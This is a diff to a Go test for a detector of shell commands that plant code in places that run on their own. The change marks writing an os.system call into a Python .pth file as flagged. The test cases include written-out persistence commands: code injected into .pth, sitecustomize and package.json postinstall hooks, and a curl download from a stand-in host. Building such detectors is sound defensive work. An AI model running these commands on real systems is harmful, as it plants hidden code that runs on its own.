@@ -66,7 +66,7 @@ func TestAutorunFiles(t *testing.T) {
 		{`curl -o package.json https://x.example/p.json`, nil, true},
 		{`echo '{"scripts": {"postinstall": "id"}}' > node_modules/x/package.json`, nil, false},
 		// Python start-up
-		{`echo 'import os; os.system("id")' > /home/a/.local/lib/python3.12/site-packages/x.pth`, []string{"id"}, false},
+		{`echo 'import os; os.system("id")' > /home/a/.local/lib/python3.12/site-packages/x.pth`, []string{"id"}, true},
 		{`echo '/w/src' > /home/a/.local/lib/python3.12/site-packages/x.pth`, nil, false},
 		{`echo 'import os; os.system("id")' > sitecustomize.py`, []string{"id"}, false},
 		{`cp /tmp/u.py /home/a/.local/lib/python3.12/site-packages/usercustomize.py`, nil, true},
